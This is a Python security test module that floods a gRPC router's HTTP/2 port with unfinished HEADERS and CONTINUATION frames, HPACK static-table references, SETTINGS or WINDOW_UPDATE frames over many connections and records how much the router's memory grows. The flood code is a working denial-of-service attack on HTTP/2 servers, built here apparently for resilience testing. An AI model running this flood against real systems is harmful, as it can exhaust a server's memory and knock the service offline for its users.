"""Sends frames that belong to no call to a router's gRPC port, without a key and without acknowledging the server's
settings, and measures the router's memory.

Run by hand it prints a line of JSON: python -m tests.security.attacks.header_flood ADDRESS PID --kind references
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import time
from dataclasses import dataclass

import psutil

from tests.security.attacks.grpc_frames import CONTINUATION, GREETING, HEADERS, SETTINGS, WINDOW_UPDATE, frame

PIECE = 16 << 10
CALL = {b":method": b"POST", b":scheme": b"http", b":path": b"/a", b":authority": b"x", b"te": b"trailers"}


def _number(value: int, bits: int) -> bytes:
    """HPACK's representation of an integer (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((value,))
    value -= most
    made = bytes((most,))
    while value > 127:
        made += bytes((value & 127 | 128,))
        value >>= 7
    return made + bytes((value,))


def literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + _number(len(name), 7) + name + _number(len(value), 7) + value


FIELDS = b"".join(literal(name, value) for name, value in CALL.items())
HEAD = frame(HEADERS, 0, 1, FIELDS)  # it goes on
ACCEPT_ENCODING = b"\x90"  # a field of HPACK's static table in one byte
# What each kind sends once, and again and again.
KINDS = {
    "literals": (HEAD, frame(CONTINUATION, 0, 1, 2 * literal(b"k", b"v" * 8000))),
    "references": (HEAD, frame(CONTINUATION, 0, 1, 500 * ACCEPT_ENCODING)),
    "settings": (b"", frame(SETTINGS)),
    "window updates": (b"", frame(WINDOW_UPDATE, payload=(1).to_bytes(4, "big"))),
}


@dataclass
class Done:
    closed: int  # connections
    sent: int  # bytes
    growth: int  # of the router's resident memory, at its most


def flood(where: tuple[str, int], pid: int, kind: str, connections: int, seconds: float) -> Done:
    """Send on so many connections, none of which is opened again, until all are closed or the time is over."""
    router = psutil.Process(pid)
    once, again = KINDS[kind]
    piece = again * max(1, PIECE // len(again))
    done = Done(0, 0, 0)
    with contextlib.ExitStack() as stack:
        rest: dict[socket.socket, memoryview] = {}
        for _ in range(connections):
            sock = stack.enter_context(socket.create_connection(where, 10))
            sock.setblocking(False)
            rest[sock] = memoryview(GREETING + once + piece)
        before, ends = router.memory_info().rss, time.monotonic() + seconds
        while rest and time.monotonic() < ends:
            sent = done.sent
            for sock, left in list(rest.items()):
                try:
                    _drop_received(sock)
                    done.sent += (count := sock.send(left))
                    rest[sock] = left[count:] or memoryview(piece)
                except BlockingIOError:
                    pass
                except OSError:
                    del rest[sock]
                    done.closed += 1
            done.growth = max(done.growth, router.memory_info().rss - before)
            if done.sent == sent:
                time.sleep(0.01)
    return done


def _drop_received(sock: socket.socket) -> None:
    with contextlib.suppress(BlockingIOError):
        while sock.recv(1 << 16):
            pass
        raise ConnectionResetError


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("pid", type=int)
    parser.add_argument("--kind", choices=KINDS, default="references")
    parser.add_argument("--connections", type=int, default=24)
    parser.add_argument("--seconds", type=float, default=8.0)
    given = parser.parse_args()
    host, _, port = given.address.rpartition(":")
    where = host, int(port)
    print(json.dumps(vars(flood(where, given.pid, given.kind, given.connections, given.seconds))))


if __name__ == "__main__":
    main()
